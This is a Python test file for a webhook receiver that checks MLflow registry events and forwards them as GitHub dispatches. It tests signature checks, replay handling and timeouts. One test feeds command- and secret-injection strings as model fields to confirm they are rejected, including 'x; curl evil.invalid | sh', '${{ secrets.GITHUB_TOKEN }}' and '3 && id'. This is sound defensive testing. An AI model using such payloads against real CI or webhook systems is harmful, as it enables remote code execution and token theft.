"""Webhook bridge: the receiver as `webhook-receive` runs it (uvicorn), a real `mlflow server`
that delivers registry events to it, and a local stand-in for GitHub's API. Every bad request
gets its 4xx answer and forwards nothing."""

from __future__ import annotations

import base64
import json
import os
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest
from demo.project import PROJECT

from mlrig import webhooks
from mlrig.job import run_job
from mlrig.testing import background, free_port, mlflow_server
from mlrig.tracking.store import Tracking

SECRET = "test-webhook-secret"
CFG = PROJECT.load_params(PROJECT.root / "params.yaml")
MAX_CONNECTIONS = 100  # the receiver's cap in these tests
ENV = {"MLFLOW_WEBHOOK_SECRET": SECRET, "GITHUB_REPOSITORY": "org/repo", "GITHUB_TOKEN": "gh"}


class GitHubStandIn(BaseHTTPRequestHandler):
    dispatched: ClassVar[list[tuple[str, dict]]] = []

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.dispatched.append((self.path, json.loads(body)))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def github() -> Iterator[str]:
    GitHubStandIn.dispatched = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), GitHubStandIn)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


@pytest.fixture
def receiver(workspace: Path, github: str) -> Iterator[str]:
    """`webhook-receive`, with short timeouts, in the workspace (its params.yaml)."""
    port = free_port()
    command = [
        sys.executable, "-m", "demo.cli", "webhook-receive", "--port", str(port),
        "--max-body", "4096", "--read-timeout", "1", "--connection-lifetime", "2",
        "--max-connections", str(MAX_CONNECTIONS),
    ]  # fmt: skip
    env = {
        "MLFLOW_WEBHOOK_SECRET": SECRET,
        "GITHUB_REPOSITORY": "org/repo",
        "GITHUB_TOKEN": "gh-token",
        "GITHUB_API_URL": github,
    }
    url = f"http://127.0.0.1:{port}"
    with background(command, f"{url}/health", env, workspace):
        yield url


def event(name: str = CFG.registry.model_name, version: object = "3") -> dict:
    return {
        "entity": "model_version",
        "action": "created",
        "data": {"name": name, "version": version},
    }


def post(url: str, body: bytes, delivery_id: str = "d1", signed: bool = True) -> int:
    now = str(int(time.time()))
    headers = {"X-MLflow-Delivery-Id": delivery_id, "X-MLflow-Timestamp": now}
    headers["X-MLflow-Signature"] = webhooks.sign(SECRET, delivery_id, now, body) if signed else ""
    request = urllib.request.Request(f"{url}/", data=body, headers=headers, method="POST")
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status
    except urllib.error.HTTPError as error:
        return error.code


def test_signature_verification() -> None:
    body = b'{"entity": "model_version"}'
    now = int(time.time())
    headers = {
        "X-MLflow-Delivery-Id": "d1",
        "X-MLflow-Timestamp": str(now),
        "X-MLflow-Signature": webhooks.sign(SECRET, "d1", str(now), body),
    }
    webhooks.verify(SECRET, headers, body)
    with pytest.raises(webhooks.SignatureError, match="does not match"):
        webhooks.verify("other-secret", headers, body)
    with pytest.raises(webhooks.SignatureError, match="does not match"):
        webhooks.verify(SECRET, headers, body + b" ")
    with pytest.raises(webhooks.SignatureError, match="too old"):
        webhooks.verify(SECRET, headers, body, now=now + 3600)
    with pytest.raises(webhooks.SignatureError, match="missing"):
        webhooks.verify(SECRET, {}, body)


def test_the_receiver_checks_an_event_without_loading_mlflow() -> None:
    """The receiver's event loop never waits on an MLflow import: the checks use names.py."""
    script = (
        "import json, sys, time\n"
        "from mlrig.webhooks import sign, to_dispatch, verify\n"
        "event = {'entity': 'model_version', 'action': 'created',\n"
        "         'data': {'name': 'm', 'version': '3'}}\n"
        "body, now = json.dumps(event).encode(), str(int(time.time()))\n"
        "headers = {'X-MLflow-Delivery-Id': 'd1', 'X-MLflow-Timestamp': now,\n"
        "           'X-MLflow-Signature': sign('s', 'd1', now, body)}\n"
        "verify('s', headers, body)\n"
        "assert to_dispatch(event, 'm', 'challenger')['client_payload']['model_version'] == '3'\n"
        "print('mlflow' in sys.modules)"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "False"


def test_each_bad_request_gets_its_answer_and_forwards_nothing(receiver: str) -> None:
    valid = json.dumps(event()).encode()
    assert post(receiver, valid, signed=False) == 401
    assert post(receiver, b"not json", "d2") == 400
    assert post(receiver, b"[1, 2]", "d3") == 400
    assert post(receiver, b'{"entity": "model_version", "action": "created"}', "d4") == 422
    for name in ("other-model", "x; curl evil.invalid | sh", "${{ secrets.GITHUB_TOKEN }}"):
        assert post(receiver, json.dumps(event(name)).encode(), f"name-{name}") == 422
    assert post(receiver, json.dumps(event(version="3 && id")).encode(), "d5") == 422
    assert post(receiver, json.dumps(event(version="3\n")).encode(), "d5n") == 422
    assert post(receiver, json.dumps(event()).encode() + b" " * 5000, "d6") == 413
    assert GitHubStandIn.dispatched == []


def test_a_replayed_delivery_is_forwarded_once(receiver: str) -> None:
    body = json.dumps(event()).encode()
    assert [post(receiver, body, "same-id") for _ in range(3)] == [202, 409, 409]
    assert len(GitHubStandIn.dispatched) == 1
    ((path, dispatched),) = GitHubStandIn.dispatched
    assert path == "/repos/org/repo/dispatches"
    assert dispatched["client_payload"]["model_version"] == "3"


def test_slow_and_idle_clients_hold_nothing(receiver: str) -> None:
    """A body that never ends gets 408; idle connections are closed at the end of their
    lifetime, and one over the cap at once, without keeping others from being served."""
    host, port = receiver.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port))) as slow:  # a body that never ends
        slow.sendall(b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\n{")
        slow.settimeout(10)
        assert slow.recv(100).startswith(b"HTTP/1.1 408")
    idle = [socket.create_connection((host, int(port))) for _ in range(MAX_CONNECTIONS - 1)]
    try:
        body = json.dumps(event()).encode()
        assert post(receiver, body, "after-idle") == 202  # served while the others wait
        time.sleep(0.5)  # the server has seen that request's connection close
        idle.append(socket.create_connection((host, int(port))))  # the cap
        with socket.create_connection((host, int(port))) as over:
            over.settimeout(1.5)  # well within the 2 s lifetime
            assert closed(over)
        time.sleep(3)  # past --connection-lifetime: the server closed every idle one
        for connection in idle:
            connection.settimeout(5)
            assert closed(connection)
    finally:
        for connection in idle:
            connection.close()


def closed(connection: socket.socket) -> bool:
    """Whether the server closed the connection (end of stream, or a reset)."""
    try:
        return connection.recv(1) == b""
    except ConnectionResetError:
        return True


@pytest.mark.slow
def test_registry_events_dispatch_the_promotion_workflow(
    workspace: Path, receiver: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    port = free_port()
    server = mlflow_server(workspace, port)
    # Dev-only server flags: deliver to http:// on loopback. The encryption key must be one for
    # all the server's workers, or a worker cannot read a webhook secret another one stored.
    dev_only = {
        "MLFLOW_WEBHOOK_ALLOWED_SCHEMES": "http",
        "MLFLOW_WEBHOOK_ALLOW_PRIVATE_IPS": "true",
        "MLFLOW_WEBHOOK_SECRET_ENCRYPTION_KEY": base64.urlsafe_b64encode(os.urandom(32)).decode(),
    }
    with background(server, f"http://127.0.0.1:{port}/health", dev_only, workspace):
        uri = f"http://127.0.0.1:{port}"
        monkeypatch.setenv("MLFLOW_TRACKING_URI", uri)
        cfg = PROJECT.load_params()
        tracking = Tracking.connect(cfg, PROJECT.root)
        hook_id = webhooks.register(tracking, f"{receiver}/", SECRET, "promotion")
        assert webhooks.register(tracking, f"{receiver}/", SECRET, "promotion") == hook_id

        summary = run_job(PROJECT, cfg)

        deadline = time.monotonic() + 30
        while len(GitHubStandIn.dispatched) < 2 and time.monotonic() < deadline:
            time.sleep(0.2)

    triggers = set()
    for path, body in GitHubStandIn.dispatched:
        assert path == "/repos/org/repo/dispatches"
        assert body["event_type"] == "mlflow-model-version"
        assert body["client_payload"]["model_name"] == cfg.registry.model_name
        assert body["client_payload"]["model_version"] == summary.version
        triggers.add(body["client_payload"]["trigger"])
    assert triggers == {"model_version.created", "model_version_alias.created"}


def test_the_receiver_runs_on_its_own(github: str, tmp_path: Path) -> None:
    """`mlrig-webhooks`: no project, the model named on the command line."""
    port = free_port()
    script = Path(sys.executable).with_name("mlrig-webhooks")
    command = [str(script), "--model-name", "m", "--port", str(port)]
    url = f"http://127.0.0.1:{port}"
    with background(command, f"{url}/health", {**ENV, "GITHUB_API_URL": github}, tmp_path):
        body = json.dumps(event("m")).encode()
        assert post(url, body, "own") == 202
        assert post(url, json.dumps(event()).encode(), "other") == 422
    assert [body["client_payload"]["model_name"] for _, body in GitHubStandIn.dispatched] == ["m"]
